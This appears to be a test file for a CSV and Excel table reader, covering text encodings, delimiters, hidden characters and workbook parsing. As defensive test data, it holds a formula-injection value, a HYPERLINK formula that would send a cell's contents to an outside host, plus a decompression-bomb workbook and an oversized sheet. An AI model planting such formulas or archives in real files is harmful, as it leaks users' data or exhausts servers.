import { describe, expect, test } from "vitest";
import { type Packed, zipOf } from "#testing/zip.ts";
import { encodingOf } from "../encodings/rules.ts";
import { tableIn } from "../opening/service.ts";
import { readTable } from "./service.ts";

const read = async (content: string | Buffer) => {
  const found = await readTable({ bytes: Buffer.from(content), encoding: null });
  return found.readable ? found.rows : found.code;
};
const utf16 = (text: string, mark = true) => Buffer.from((mark ? "\ufeff" : "") + text, "utf16le");
/** Hebrew letters, as that code page has them. */
const windows1255 = (text: string) =>
  Buffer.from(
    [...text].map((letter) => (/[א-ת]/.test(letter) ? letter.charCodeAt(0) - 0x05d0 + 0xe0 : letter.charCodeAt(0))),
  );

describe("a text is read in the letters it is written in", () => {
  const rows = [
    ["שם", "מייל"],
    ["נועה כהן", "noa@example.org"],
  ];
  const text = rows.map((row) => row.join(",")).join("\r\n");
  test.each([
    ["UTF-8", Buffer.from(text)],
    ["UTF-8 with a mark", Buffer.from(`\ufeff${text}`)],
    ["UTF-16 with a mark", utf16(text)],
    ["UTF-16 without one", utf16(text, false)],
    ["UTF-16 the other way round", utf16(text).swap16()],
    ["Windows-1255", windows1255(text)],
  ])("%s", async (_name, bytes) => {
    expect(await read(bytes)).toEqual(rows);
  });

  test("Windows-1252 where letters with accents stand among plain ones", () => {
    for (const name of ["Núñez Peña", "Iñés", "Müller", "Françoise"])
      expect(encodingOf(Buffer.from(`Nombre\n${name}`, "latin1"))).toBe("windows-1252");
  });
});

describe("a text's cells", () => {
  const rows = [
    ["Name", "Mail"],
    ["Vale, Juniper", "j@example.org"],
  ];
  test.each([
    ["commas", 'Name,Mail\n"Vale, Juniper",j@example.org'],
    ["semicolons", "Name;Mail\nVale, Juniper;j@example.org"],
    ["tabs", "Name\tMail\nVale, Juniper\tj@example.org"],
    ["what its first line says", "sep=|\r\nName|Mail\r\nVale, Juniper|j@example.org"],
  ])("are parted by %s", async (_name, text) => {
    expect(await read(text)).toEqual(rows);
  });

  test("keep what would be a formula elsewhere as the text it is, and lose the apostrophe that kept it one", async () => {
    const formula = '=HYPERLINK("http://example.org/?"&A1,"click")';
    expect(await read(`Name,Phone\n"${formula.replaceAll('"', '""')}",'+34612345678\n@SUM(A1:A9),-2+3`)).toEqual([
      ["Name", "Phone"],
      [formula, "+34612345678"],
      ["@SUM(A1:A9)", "-2+3"],
    ]);
  });

  test("may hold lines, lone quotes and be fewer than the names above them", async () => {
    expect(await read('Name,Note,Tags\nJuniper,"rings\ntwice",a\nRowan "Ro" Ash\n')).toEqual([
      ["Name", "Note", "Tags"],
      ["Juniper", "rings\ntwice", "a"],
      ['Rowan "Ro" Ash', "", ""],
    ]);
  });

  test("lose what nobody sees", async () => {
    expect(await read("Name\n\u200e Juniper\u00a0\u0007 \u202cVale\u200b ")).toEqual([
      ["Name"],
      ["Juniper\u00a0 Vale"],
    ]);
  });
});

const sheet = (rows: string) =>
  `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const workbook = (rows: string, more: Packed[] = [], claims = {}) =>
  zipOf([
    {
      name: "[Content_Types].xml",
      text: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    {
      name: "xl/workbook.xml",
      text: '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>',
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      text: '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    },
    {
      name: "xl/styles.xml",
      text: '<?xml version="1.0"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>',
    },
    { name: "xl/worksheets/sheet1.xml", text: sheet(rows), claims },
    ...more,
  ]);
const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe("a workbook", () => {
  test("gives words, days, long numbers and what came of formulas", async () => {
    const rows = `<row r="1">${cell("A1", "Name")}${cell("B1", "Born")}${cell("C1", "Phone")}${cell("D1", "Sum")}</row>
      <row r="3">${cell("A3", "נועה")}<c r="B3" s="1"><v>33374</v></c><c r="C3"><v>34612345678</v></c><c r="D3"><f>1+1</f><v>2</v></c></row>`;
    expect(await read(workbook(rows))).toEqual([
      ["Name", "Born", "Phone", "Sum"],
      ["", "", "", ""],
      ["נועה", "1991-05-16", "34612345678", "2"],
    ]);
  });

  test.each([
    ["that claims to unfold to gigabytes", workbook(`<row r="1">${cell("A1", "Name")}</row>`, [], { size: 2 ** 31 })],
    ["that is cut off", workbook(`<row r="1">${cell("A1", "Name")}</row>`).subarray(0, 400)],
    ["without a workbook in it", zipOf([{ name: "word/document.xml", text: "<a/>" }])],
    ["that is no XML", workbook("<row r='1'><c r='A1'><v>", [])],
  ])("%s is refused", async (_name, bytes) => {
    expect(await read(bytes)).toMatch(/^table_(unreadable|empty)$/);
  });

  test("with a cell in the last place a sheet has holds up nobody for long", async () => {
    const far = workbook(`<row r="1">${cell("A1", "Name")}</row><row r="1048576">${cell("XFD1048576", "far")}</row>`);
    await expect(tableIn({ bytes: far, encoding: null })).rejects.toMatchObject({
      code: expect.stringMatching(/^(table_too_complex|too_many_columns|table_unreadable)$/),
    });
  }, 60_000);
});
